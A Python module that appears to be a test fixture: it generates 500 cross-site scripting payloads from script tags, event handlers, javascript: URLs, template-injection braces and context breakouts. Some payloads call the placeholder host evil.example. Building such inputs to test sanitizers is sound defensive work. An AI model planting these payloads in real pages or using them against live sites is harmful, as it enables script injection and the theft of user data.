"""Five hundred texts that would run, fetch or break out where a page took them for its own."""

from itertools import product

_RUN = (
    "window.pwned=1", "alert(1)", "fetch('https://evil.example/')", "document.title='pwned'",
    "parent.pwned=1",
)  # fmt: skip
_FORMS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script/src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=https://evil.example/x.png?{run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe src=javascript:{run}>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<a href=javascript:{run}>x</a>",
    "<a href=' &#1;javascript:{run}'>x</a>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=https://evil.example/x.css?{run}>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/?{run}>",
    "<base href=https://evil.example/?{run}>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<style>@import url(https://evil.example/x.css?{run});</style>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>",
    "{{{{ {run} }}}}",
    "{{% set x = '{run}' %}}",
)
_FRAMES = ("{it}", '">{it}', "</title></desc></style>{it}", "'-->]]>{it}<!--")


def hostile() -> list[str]:
    """Return the texts, all of them different."""
    return [
        frame.format(it=form.format(run=run)) for frame, form, run in product(_FRAMES, _FORMS, _RUN)
    ]
